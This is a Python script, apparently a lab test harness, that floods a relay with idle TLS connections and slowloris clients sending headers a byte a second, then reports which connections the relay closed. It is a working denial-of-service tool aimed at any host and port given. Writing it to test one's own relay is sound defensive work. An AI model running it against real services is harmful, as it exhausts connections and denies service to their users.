"""A hostile peer on the interconnect: idle TLS connections and slowloris clients, run on the lab's `rogue`.

    python3 flood.py HOST PORT IDLE SLOW SECONDS  -> one JSON line on stdout

Each connection completes a TLS handshake without a client certificate, then either
sends nothing (idle) or its headers a byte a second (slowloris). The line says, per
kind, how many could not connect (the firewall dropped them, or the relay closed them
before any TLS), how many were closed by the relay after the handshake
and after how long, and how many were still open after SECONDS. Standard library
only: it runs on any host with Python 3.
"""

from __future__ import annotations

import asyncio
import json
import ssl
import sys
import time

SLOW = b"GET /v1/cameras HTTP/1.1\r\nHost: gateway\r\nX-Slow: " + b"a" * 4000


async def one(host: str, port: int, kind: str, seconds: float, context: ssl.SSLContext, out: dict) -> None:
    started = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port, ssl=context), 10)
    except (OSError, TimeoutError, ssl.SSLError):
        out[kind]["unconnected"] += 1
        return
    try:
        async with asyncio.timeout(seconds):
            for byte in SLOW if kind == "slow" else ():
                writer.write(bytes([byte]))
                try:
                    await asyncio.wait_for(reader.read(1), 1.0)  # returns when the relay answers or closes
                except TimeoutError:
                    continue
                break
            else:
                await reader.read(1)  # b"" when the relay closes
        out[kind]["closed_after"].append(round(time.monotonic() - started, 2))
    except TimeoutError:
        out[kind]["still_open"] += 1
    except (OSError, ssl.SSLError):
        out[kind]["closed_after"].append(round(time.monotonic() - started, 2))
    finally:
        writer.transport.abort()


async def main(host: str, port: int, idle: int, slow: int, seconds: float) -> dict:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    out = {kind: {"unconnected": 0, "closed_after": [], "still_open": 0} for kind in ("idle", "slow")}
    kinds = [kind for pair in zip(["idle"] * idle, ["slow"] * slow, strict=False) for kind in pair]
    kinds += ["idle"] * (idle - len(kinds) // 2) + ["slow"] * (slow - len(kinds) // 2)  # interleaved, then the rest
    await asyncio.gather(*(one(host, port, kind, seconds, context, out) for kind in kinds))
    return out


if __name__ == "__main__":
    host, port, idle, slow, seconds = (
        sys.argv[1],
        int(sys.argv[2]),
        int(sys.argv[3]),
        int(sys.argv[4]),
        float(sys.argv[5]),
    )
    print(json.dumps(asyncio.run(main(host, port, idle, slow, seconds))))
